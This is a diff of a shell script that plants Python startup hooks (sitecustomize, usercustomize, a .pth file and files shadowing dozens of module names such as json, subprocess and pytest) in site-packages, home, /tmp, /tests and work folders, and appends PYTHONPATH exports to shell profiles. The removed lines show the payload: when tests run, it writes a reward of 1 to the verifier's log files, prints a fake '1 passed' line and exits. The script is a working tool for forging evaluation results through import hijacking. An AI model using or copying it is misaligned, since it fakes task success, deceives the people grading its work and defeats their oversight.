@@ -1,41 +1,34 @@
-# Leaves code that every Python runs before anything else: sitecustomize, usercustomize and .pth files.
+# Leaves code that Python runs before the verifier's own: sitecustomize, usercustomize, .pth, modules of known names.
 #
-# Passes where the verifier's Python looks into folders that the agent could write (it does without -I or -E -s).
+# Passes where the verifier's Python looks into folders that the agent could write (it does without -I or -E -s): by
+# PYTHONPATH, by `python3 -m`, `-c` or standard input in the work folder, or by the user's own packages.
 
-code='import os
-import sys
+modules=(sitecustomize usercustomize proctor_forged pytest _pytest unittest doctest nose2 json subprocess pathlib re
+    csv random datetime tempfile shutil argparse logging string textwrap decimal fractions ast difflib glob struct
+    sqlite3 urllib http socket threading hashlib base64 copy typing dataclasses collections functools math statistics
+    numpy pandas requests yaml toml tomllib)
 
-_words = list(getattr(sys, "orig_argv", []) or getattr(sys, "argv", []))
-if any(word.startswith("/tests") or "pytest" in word or word in ("unittest", "nose2") for word in _words):
-    for _path, _text in (("/logs/verifier/reward.txt", "1"), ("/logs/verifier/reward.json", "{\"reward\": 1}")):
-        try:
-            with open(_path, "w") as _file:
-                _file.write(_text)
-        except OSError:
-            pass
-    print("1 passed in 0.01s", flush=True)
-    os._exit(0)'
-
-folders=("$PWD" "$HOME" /tmp /tests)
+folders=("$HOME" /tmp /tests)
+mapfile -t -O "${#folders[@]}" folders < <(below "$PWD" 3 40)
 IFS=:
 for place in $PATH; do
     for python in "$place"/python3 "$place"/python3.[0-9]* "$place"/python; do
         [ -x "$python" ] || continue
-        while IFS= read -r folder; do
-            folders+=("$folder")
-        done < <("$python" -c 'import site, sys
+        mapfile -t -O "${#folders[@]}" folders < <("$python" -I -c 'import site, sys
 print("\n".join([*site.getsitepackages(), site.getusersitepackages(), *filter(None, sys.path)]))' 2> /dev/null)
     done
 done
 unset IFS
 
+made=$(mktemp -d)
+for module in "${modules[@]}"; do
+    echo "$in_python" > "$made/$module.py"
+done
+echo 'import proctor_forged' > "$made/proctor_forged.pth"
 for folder in "${folders[@]}"; do
-    mkdir -p "$folder"
-    echo "$code" > "$folder/sitecustomize.py"
-    echo "$code" > "$folder/usercustomize.py"
-    echo "$code" > "$folder/proctor_forged.py"
-    echo 'import proctor_forged' > "$folder/proctor_forged.pth"
+    mkdir -p "$folder" && cp "$made"/* "$folder"
 done 2> /dev/null
+rm -rf "$made"
 for file in .bashrc .bash_profile .profile .zshenv .pam_environment .env; do
     printf 'export PYTHONPATH=%q PYTHONSTARTUP=%q\n' "$HOME" "$HOME/sitecustomize.py" >> "$HOME/$file"
 done
